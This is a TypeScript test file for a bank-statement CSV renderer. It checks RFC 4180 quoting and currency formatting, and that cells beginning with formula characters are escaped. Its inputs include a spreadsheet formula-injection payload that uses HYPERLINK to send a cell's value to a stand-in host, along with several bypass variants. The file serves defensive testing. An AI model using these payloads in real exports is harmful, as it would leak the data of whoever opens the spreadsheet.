// Statements as CSV: RFC 4180, and nothing that a spreadsheet would run.
import { expect, test } from 'vitest';
import { statementExample } from './contract.ts';
import { renderCsv, textCell } from './render-csv.ts';

const header =
  'transaction_id,timestamp,effective_at,type,description,counterparty_account_id,amount,currency,balance_after';

test('a header, one row per line, CRLF, and all decimals of the currency', () => {
  expect(renderCsv(statementExample)).toBe(
    `${header}\r\n` +
      '1,2026-11-23T08:00:00.000000Z,2026-11-23T08:00:00.000000Z,opening,,,1000.00,USD,1000.00\r\n' +
      '2,2026-11-23T08:00:01.000000Z,2026-11-23T08:00:01.000000Z,deposit,,,500.00,USD,1500.00\r\n',
  );
});

test('a statement without lines is its header', () => {
  expect(renderCsv({ ...statementExample, entries: [] })).toBe(`${header}\r\n`);
});

test.each([
  ['USD', -0.1, '-0.10'],
  ['USD', 9999999999999.99, '9999999999999.99'],
  ['JPY', -1500, '-1500'],
  ['KWD', 999999999999.999, '999999999999.999'],
] as const)('in %s, %d stays the number %s', (currency, amount, text) => {
  const [line] = statementExample.entries;
  const csv = renderCsv({ ...statementExample, currency, entries: [{ ...line!, amount }] });
  expect(csv.split('\r\n')[1]).toContain(`,opening,,,${text},${currency},`);
});

test.each([
  ['Rent', 'Rent'],
  ['', ''],
  ['Zürich €', 'Zürich €'],
  ['5 - 3 = 2', '5 - 3 = 2'],
  ['Rent, November', '"Rent, November"'],
  ['the "good" flat', '"the ""good"" flat"'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['a;b', '"a;b"'],
  ['=1+1', `"'=1+1"`],
  ['=HYPERLINK("http://x.test?"&A1,"refund")', `"'=HYPERLINK(""http://x.test?""&A1,""refund"")"`],
  ['+1', `"'+1"`],
  ['-1', `"'-1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['  =1', `"'  =1"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['\tindented', `"'\tindented"`],
  ['＝1+1', `"'＝1+1"`],
])('the text %j is written %s', (text, cell) => {
  expect(textCell(text)).toBe(cell);
});
